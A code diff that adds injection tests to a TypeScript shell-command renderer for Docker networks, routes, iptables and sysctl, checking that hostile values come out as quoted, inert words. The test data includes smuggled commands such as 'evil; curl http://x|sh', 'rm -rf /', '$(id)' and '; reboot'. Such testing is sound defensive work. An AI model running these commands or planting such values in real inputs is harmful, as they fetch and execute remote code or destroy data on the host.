@@ -1,3 +1,5 @@
+import { execFileSync } from 'node:child_process';
+import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { renderCommand, renderIpBatch, renderRestore, renderRule, shellQuote } from './render.ts';
 import { CROSSDOCK_ROUTE_PROTOCOL, MANAGED_LABEL, type Command, type FirewallRule } from './schema.ts';
@@ -58,6 +60,30 @@ describe('renderCommand', () => {
     [{ kind: 'sysctl.set', key: 'net.ipv4.ip_forward', value: '1' }, 'sysctl -w net.ipv4.ip_forward=1'],
   ];
   it.each(cases)('%j', (command, text) => {
+    expect(renderCommand(command)).toBe(text);
+  });
+
+  // Commands that reach renderCommand unvalidated (a plan, a stored job) must still render as
+  // inert words: no value may end a word, start a new command or expand.
+  const EVIL = 'evil; curl http://x|sh';
+  const hostile: [Command, string][] = [
+    [{ kind: 'docker.network.remove', name: EVIL }, "docker network rm 'evil; curl http://x|sh'"],
+    [{ kind: 'docker.network.remove', name: '-f' }, 'docker network rm -- -f'],
+    [{ kind: 'docker.network.remove', name: "it's\nrm -rf /" }, "docker network rm 'it'\\''s\nrm -rf /'"],
+    [
+      { kind: 'docker.network.create', name: EVIL, subnet: '$(id)', gateway: '`id`', options: {}, labels: {} },
+      "docker network create --driver bridge --subnet '$(id)' --gateway '`id`' --label io.crossdock.managed=true 'evil; curl http://x|sh'",
+    ],
+    [{ kind: 'route.delete', dst: '10.9.9.0/24; reboot' }, "ip route delete '10.9.9.0/24; reboot' proto 252"],
+    [{ kind: 'route.replace', dst: '10.2.0.0/24', via: '1.2.3.4 dev lo', dev: 'eth0' }, "ip route replace 10.2.0.0/24 via '1.2.3.4 dev lo' dev eth0 proto 252"],
+    [
+      { kind: 'firewall.jump', table: 'filter; id' as 'filter', from: 'FORWARD', to: 'CROSSDOCK-X|sh' as 'CROSSDOCK-X', position: 1 },
+      "iptables -t 'filter; id' -I FORWARD 1 -j 'CROSSDOCK-X|sh'",
+    ],
+    [{ kind: 'sysctl.set', key: 'net.ipv4.ip_forward', value: '1; reboot' as '1' }, "sysctl -w 'net.ipv4.ip_forward=1; reboot'"],
+    [{ kind: 'docker.daemon.bip', bip: '10.1.0.1/24", "x": "$(id)' }, `daemon.json: "bip": '"10.1.0.1/24\\", \\"x\\": \\"$(id)"' + restart dockerd`],
+  ];
+  it.each(hostile)('quotes every word of %j', (command, text) => {
     expect(renderCommand(command)).toBe(text);
   });
 
@@ -125,4 +151,16 @@ describe('shellQuote', () => {
     ['$HOME', "'$HOME'"],
     ['', "''"],
   ])('%s', (word, quoted) => expect(shellQuote(word)).toBe(quoted));
+
+  it('gives back every word unchanged through a real shell', () => {
+    // Any text but NUL, which no argv can hold. One sh run checks a whole batch of words.
+    const word = fc.string({ unit: fc.oneof(fc.constantFrom(..."'\"\\$`!*?[]{}();|&<> \t\n#~=-"), fc.string({ unit: 'binary', minLength: 1, maxLength: 1 })), maxLength: 24 }).filter((w) => !w.includes('\0'));
+    fc.assert(
+      fc.property(fc.array(word, { minLength: 1, maxLength: 40 }), (words) => {
+        const out = execFileSync('sh', ['-c', `printf '%s\\0' ${words.map(shellQuote).join(' ')}`], { encoding: 'utf8' });
+        expect(out.split('\0').slice(0, -1)).toEqual(words);
+      }),
+      { numRuns: 40 },
+    );
+  });
 });
